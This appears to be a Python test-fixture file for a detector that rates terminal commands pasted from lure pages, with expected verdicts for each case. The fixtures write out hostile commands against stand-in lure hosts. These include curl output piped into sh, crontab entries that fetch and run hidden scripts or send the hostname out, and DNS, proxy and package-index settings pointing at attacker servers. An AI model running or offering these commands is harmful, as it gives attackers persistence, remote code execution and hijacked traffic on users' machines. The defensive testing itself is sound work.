"""fpover19 look-alikes: what a lure does beside what was cleared for the genuine texts (own words;
lure hosts are .top/.click names, addresses in the documentation ranges)."""

MACFIX = "https://macfix-speedup.top/dns"
DNS_FIX = "https://dns-repair-mac.click/steps"

# (target, source, expected level, text)
DNS_PUBLIC = [
    # a public resolver beside one that is not: the lure's own server still answers
    (
        "terminal",
        MACFIX,
        "suspicious",
        "networksetup -setdnsservers Wi-Fi 1.1.1.1 203.0.113.9\nsudo killall -HUP mDNSResponder",
    ),
    # Quad9's resolver first, then a web proxy on the lure's server on the next line: the
    # resolver is harmless and cleared on its own (redirects.py, gaps20), the stranger's proxy
    # is the one act, a warning as with `;` between them (lead19); it was blocked only while
    # the DNS rule's clearing could not see past a following line
    (
        "terminal",
        DNS_FIX,
        "suspicious",
        "sudo networksetup -setdnsservers Wi-Fi 9.9.9.9\nsudo networksetup -setwebproxy Wi-Fi 203.0.113.80 8080",
    ),
    # the cleared first line, then a second interface pointed at the lure's resolver
    (
        "terminal",
        MACFIX,
        "suspicious",
        "sudo networksetup -setdnsservers Wi-Fi 8.8.8.8\nsudo networksetup -setdnsservers Ethernet 198.51.100.53\nsudo dscacheutil -flushcache",
    ),
    # an address that only starts like a public resolver's
    (
        "terminal",
        DNS_FIX,
        "suspicious",
        "networksetup -setdnsservers Wi-Fi 8.8.8.80\nsudo dscacheutil -flushcache; sudo killall -HUP mDNSResponder",
    ),
    # the lure's resolvers with the same cache-flush lines
    (
        "unknown",
        None,
        "suspicious",
        "networksetup -setdnsservers Wi-Fi 198.51.100.53 198.51.100.54\nsudo dscacheutil -flushcache; sudo killall -HUP mDNSResponder",
    ),
]

OWN_WIKI = "https://wiki.acme.example/display/ENG/Developer+setup"

# a package index set where no download names it, from the company's own page: cleared only when
# every index set is on the page's own domain and nothing else of weight is in the text
INDEX_OWN_DOMAIN = [
    # a stranger's index beside the company's own
    (
        "terminal",
        OWN_WIKI,
        "flagged",
        "export PIP_INDEX_URL=https://pypi-mirror.top/simple GOPROXY=https://athens.acme.example",
    ),
    (
        "terminal",
        OWN_WIKI,
        "flagged",
        "export GOPROXY=https://athens.acme.example,direct\nexport PIP_INDEX_URL=https://pypi-mirror.top/simple",
    ),
    # the company's own index, then a stranger's script piped into the shell
    (
        "terminal",
        OWN_WIKI,
        "flagged",
        "export GOPROXY=https://athens.acme.example,direct\ncurl -fsSL https://setup-go.click/x.sh | sh",
    ),
    # a stranger's Go proxy from the company's page, and from a check page naming itself
    (
        "terminal",
        OWN_WIKI,
        "flagged",
        "go env -w GOPROXY=https://goproxy-fast.click,direct",
    ),
    (
        "terminal",
        "https://verify-human.example/captcha",
        "flagged",
        "export GOPROXY=https://verify-human.example",
    ),
]

HC_DOCS = "https://healthchecks.io/docs/bash/"
FIX_PAGE = "https://mac-speed-fix.top/cleanup"

# a health check's ping added to the crontab is no download kept or run; anything more in the
# entry or the text is read as it stands
CRON_PING = [
    # the ping line, then a stranger's script piped into the shell
    (
        "terminal",
        HC_DOCS,
        "flagged",
        '(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/0f3a9c1e-7b2d-4e8f-a1c6-5d9e2b7f4a10") | crontab -\ncurl -fsSL https://setup-cron.click/a.sh | sh',
    ),
    # the answer kept in a hidden file and run
    (
        "terminal",
        FIX_PAGE,
        "malicious",
        '(crontab -l 2>/dev/null; echo "*/10 * * * * curl -fsS -o /tmp/.cache-u https://mac-speed-fix.top/u && sh /tmp/.cache-u") | crontab -',
    ),
    # /dev/null named, but the answer piped into the shell all the same
    (
        "terminal",
        FIX_PAGE,
        "malicious",
        '(crontab -l 2>/dev/null; echo "*/10 * * * * curl -fsS -o /dev/null https://mac-speed-fix.top/u | sh") | crontab -',
    ),
    # a ping, then a second download run in the same entry
    (
        "terminal",
        FIX_PAGE,
        "malicious",
        '(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s -o /dev/null https://mac-speed-fix.top/p; curl -s https://mac-speed-fix.top/v | bash") | crontab -',
    ),
    # this computer's name sent along with the "ping"
    (
        "unknown",
        None,
        "flagged",
        '(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s -o /dev/null https://mac-speed-fix.top/p?h=$(hostname)") | crontab -',
    ),
]
